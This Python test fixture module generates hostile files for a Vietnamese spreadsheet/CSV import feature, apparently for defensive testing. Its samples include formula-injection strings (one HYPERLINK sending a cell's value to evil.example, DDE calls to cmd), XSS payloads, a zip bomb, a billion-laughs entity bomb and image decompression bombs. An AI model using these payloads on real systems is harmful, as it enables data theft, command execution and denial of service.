"""A corpus of hostile files, generated in memory, that every import of the project is fed.

Each file says what a careful import answers: ``refusal`` is a part of the
Vietnamese refusal an operator's list gets (the limit's setting name, or a few
words), or None when a clean result is just as right (the file is odd but
readable). Whatever the answer, no import may fail with a server error, leave
a job running, or change what was there before it refused.
"""

from __future__ import annotations

import functools
import io
import random
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass

from openpyxl import Workbook

from tests.vn_encodings import to_cp1258

HEADER: list[object] = ["STT", "Số thuê bao", "Họ và tên", "Địa chỉ"]
ROW: list[object] = [1, "0868123456", "Nguyễn Văn An", "Khối 1, Phường Lương Văn Tri"]
NOT_EXCEL = "Tệp không phải là tệp Excel"

SCRIPT_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "<script>alert(1)</script>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd",
    "\tTab đầu dòng",
    "<img src=x onerror=alert(1)>",
]


@dataclass(frozen=True)
class HostileFile:
    name: str
    content: bytes
    refusal: str | None  # a part of the refusal of an operator's list; None: a clean result is fine too

    def __repr__(self) -> str:
        return self.name


def xlsx(rows: Sequence[Sequence[object]], title: str = "Danh sách") -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def csv_text(rows: Sequence[Sequence[object]], separator: str = ";") -> str:
    return "".join(separator.join(str(cell) for cell in row) + "\n" for row in rows)


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Danh sách" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)


def _row(cells: Sequence[object]) -> str:
    # Cell and row references are optional: left out, every row is the same bytes.
    return "<row>" + "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in cells) + "</row>"


def bomb_xlsx(rows: int) -> bytes:
    """A workbook whose one sheet holds ``rows`` rows (a multiple of 10,000) of the same cells: tiny zipped,
    huge inflated. Written a block of rows at a time, so that the XML is never held whole."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            sheet.write(_row(HEADER).encode())
            block = _row(ROW).encode() * 10_000
            for _ in range(rows // 10_000):
                sheet.write(block)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def png() -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"


def pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


@functools.cache
def corpus() -> tuple[HostileFile, ...]:
    """Every hostile file, built once per test run (about a second)."""
    good = xlsx([HEADER, ROW])
    wide = [[f"Cột {n}" for n in range(200)], ["1", "0868123456", *["x"] * 198]]
    script_rows: list[list[object]] = [HEADER] + [
        [n, f"0868{n:06d}", name, "Khối 1, Phường Lương Văn Tri"] for n, name in enumerate(SCRIPT_NAMES, start=1)
    ]
    # A village and an activity sheet with the same odd names, for the small workbooks.
    script_sheet: list[list[object]] = [
        ["STT", "Tên thôn, bản, khối, tổ dân phố"],
        *([n, name] for n, name in enumerate(SCRIPT_NAMES)),
    ]
    mixed = (
        csv_text([HEADER, ROW]).encode()
        + to_cp1258("2;0868123457;Trần Thị Bình;Khối 2, Phường Lương Văn Tri\n")
        + "3;0868123458;Đặng Văn Đức;Khối 3\n".encode()
    )
    stray_quote = csv_text([HEADER, ROW]) + '2;0868123457;"Lê Văn Cường;Khối 2\n' + csv_text([ROW]) * 5000
    rng = random.Random(4)  # test data, not secrets
    return (
        HostileFile("empty.csv", b"", "Tệp trống"),
        HostileFile("empty.xlsx", b"", "Tệp trống"),
        HostileFile("truncated.xlsx", good[: len(good) // 2], NOT_EXCEL),
        HostileFile("zip_bomb.xlsx", bomb_xlsx(600_000), "XLSX_MAX_RATIO"),
        HostileFile("stray_quote.csv", stray_quote.encode(), "FIELD_MAX_CHARS"),
        HostileFile(
            "field_200kb.csv",
            csv_text([HEADER, [1, "0868123456", "A" * 200_000, "Khối 1"]]).encode(),
            "FIELD_MAX_CHARS",
        ),
        HostileFile("line_10mb.csv", csv_text([HEADER]).encode() + b"x" * 10_000_000 + b"\n", "FIELD_MAX_CHARS"),
        HostileFile("long_cell.xlsx", xlsx([HEADER, [1, "0868123456", "B" * 20_000, "Khối 1"]]), "FIELD_MAX_CHARS"),
        HostileFile("png.xlsx", png(), NOT_EXCEL),
        HostileFile("pdf.xlsx", pdf(), NOT_EXCEL),
        HostileFile("binary.csv", rng.randbytes(64 * 1024), None),
        HostileFile("text_named.xlsx", csv_text([HEADER, ROW]).encode(), NOT_EXCEL),
        HostileFile("workbook_named.csv", good, None),
        HostileFile("columns_200.csv", csv_text(wide).encode(), "SHEET_MAX_COLUMNS"),
        HostileFile("columns_200.xlsx", xlsx(wide), "SHEET_MAX_COLUMNS"),
        HostileFile("script_names.csv", csv_text(script_rows).encode(), None),
        HostileFile("script_names.xlsx", xlsx(script_rows), None),
        HostileFile("script_villages.xlsx", xlsx(script_sheet, title="Thôn - Tổ dân phố"), None),
        HostileFile("mixed_encodings.csv", mixed, None),
        HostileFile("utf16_without_bom.csv", csv_text([HEADER, ROW]).encode("utf-16-le"), None),
        HostileFile("only_separators.csv", b";;;;\n" * 50, None),
        HostileFile("nul_bytes.csv", b"\x00" * 4096, None),
        *HOSTILE_WORKBOOKS,
    )


def sheet_xlsx(sheet_xml: bytes, *, shared_strings: bytes | None = None) -> bytes:
    """A workbook of one sheet whose XML is given as it is (cell references, ``<dimension>`` or none)."""
    buffer = io.BytesIO()
    types = CONTENT_TYPES
    rels = WORKBOOK_RELS
    if shared_strings is not None:
        types = types.replace(
            "</Types>",
            '<Override PartName="/xl/sharedStrings.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )
        rels = rels.replace(
            "</Relationships>",
            '<Relationship Id="rId2" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
            'Target="sharedStrings.xml"/></Relationships>',
        )
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", rels)
        archive.writestr("xl/worksheets/sheet1.xml", sheet_xml)
        if shared_strings is not None:
            archive.writestr("xl/sharedStrings.xml", shared_strings)
    return buffer.getvalue()


SHEET_START = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def sparse_xlsx(far: str, *, dimension: str | None = None) -> bytes:
    """A sheet holding ``A1`` and one far cell (``XFD1048576``: Excel's last), with or without ``<dimension>``:
    a few hundred bytes whose grid, read whole, is ``far``'s row times its column."""
    row = int("".join(ch for ch in far if ch.isdigit()))
    dim = f'<dimension ref="{dimension}"/>'.encode() if dimension else b""
    return sheet_xlsx(
        SHEET_START + dim + b"<sheetData>"
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>STT</t></is></c></row>'
        + f'<row r="{row}"><c r="{far}" t="inlineStr"><is><t>x</t></is></c></row>'.encode()
        + b"</sheetData></worksheet>"
    )


def dimension_only_xlsx(dimension: str) -> bytes:
    """A sheet of two cells whose ``<dimension>`` claims the whole grid."""
    return sheet_xlsx(
        SHEET_START + f'<dimension ref="{dimension}"/>'.encode() + b"<sheetData>"
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>STT</t></is></c>'
        b'<c r="B1" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>'
    )


def shared_strings_xlsx(count: int, length: int) -> bytes:
    """A one-cell sheet with ``count`` distinct shared strings of ``length`` characters (random: no zip bomb)."""
    rng = random.Random(7)  # test data, not secrets
    letters = "abcdefghijklmnopqrstuvwxyz"
    head = f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="{count}">'.encode()
    parts = [head]
    for _ in range(count):
        parts.append(b"<si><t>" + "".join(rng.choices(letters, k=length)).encode() + b"</t></si>")
    parts.append(b"</sst>")
    sheet = SHEET_START + b'<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'
    return sheet_xlsx(sheet, shared_strings=b"".join(parts))


def entity_bomb_xlsx() -> bytes:
    """A sheet XML bomb: nested entities ("billion laughs") that would expand to gigabytes of text."""
    entities = '<!ENTITY l0 "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10}">' for n in range(1, 10)
    )
    return sheet_xlsx(
        b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [' + entities.encode() + b"]>"
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&l9;</t></is></c></row></sheetData></worksheet>'
    )


# Workbooks that would make a reader allocate far more than they weigh (issue 21): each refused before any
# reader opens it, whichever import reads it.
SPARSE = "hầu như trống"  # the sparse sheet's refusal
HOSTILE_WORKBOOKS = (
    HostileFile("far_cell.xlsx", sparse_xlsx("XFD1048576"), "SHEET_MAX_COLUMNS"),
    HostileFile("far_cell_dimension.xlsx", sparse_xlsx("XFD1048576", dimension="A1:XFD1048576"), "SHEET_MAX_COLUMNS"),
    HostileFile("far_row.xlsx", sparse_xlsx("CV150000"), SPARSE),
    HostileFile("far_row_dimension.xlsx", sparse_xlsx("CV150000", dimension="A1:CV150000"), SPARSE),
    HostileFile("dimension_only.xlsx", dimension_only_xlsx("A1:CV150000"), SPARSE),
    HostileFile("shared_strings.xlsx", shared_strings_xlsx(40_000, 200), "chữ"),
    HostileFile("entity_bomb.xlsx", entity_bomb_xlsx(), "Không đọc được tệp Excel"),
)


def png_bomb(width: int, height: int, *, bit_depth: int = 1, colour_type: int = 0) -> bytes:
    """A PNG of ``width`` × ``height`` pixels, all zero, written without decoding anything: a few KB that
    decode to width × height × bytes per pixel (``colour_type`` 6 at 16 bits: eight bytes a pixel)."""
    import struct
    import zlib

    channels = {0: 1, 2: 3, 4: 2, 6: 4}[colour_type]
    row = b"\x00" * (1 + (width * channels * bit_depth + 7) // 8)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def webp_bomb(width: int, height: int) -> bytes:
    """A lossless WebP of one colour: a few hundred bytes for millions of pixels."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (width, height), 0).convert("RGB").save(out, "WEBP", lossless=True, quality=0, method=0)
    return out.getvalue()


@functools.cache
def photo_bombs() -> tuple[HostileFile, ...]:
    """Photos under the old 50-megapixel limit that would decode to hundreds of MB (issue 21, finding 3)."""
    return (
        HostileFile("png_1bit_7000.png", png_bomb(7000, 7000), None),
        HostileFile("png_rgba16_3000.png", png_bomb(3000, 3000, bit_depth=16, colour_type=6), None),
        HostileFile("webp_4000x2000.webp", webp_bomb(4000, 2000), None),
    )
